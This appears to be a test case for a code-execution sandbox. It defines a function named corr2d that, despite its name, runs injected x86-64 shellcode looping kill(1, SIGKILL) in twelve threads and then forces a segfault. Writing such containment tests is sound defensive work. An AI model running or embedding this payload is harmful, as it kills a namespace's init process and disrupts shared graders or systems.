# expect: crashed
# Sends itself SIGKILL while it crashes, when process 1 of a namespace can die of it.
import ctypes
import mmap
import signal
import threading
import time

import numpy as np

# for ever: kill(1, 9)
code = bytes.fromhex("b83e000000 bf01000000 be09000000 0f05 ebed".replace(" ", ""))
memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
memory.write(code)
again = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))


def corr2d(X, K):
    for _ in range(12):
        threading.Thread(target=again, daemon=True).start()
    time.sleep(0.05)
    signal.signal(signal.SIGSEGV, signal.SIG_DFL)
    ctypes.string_at(0)
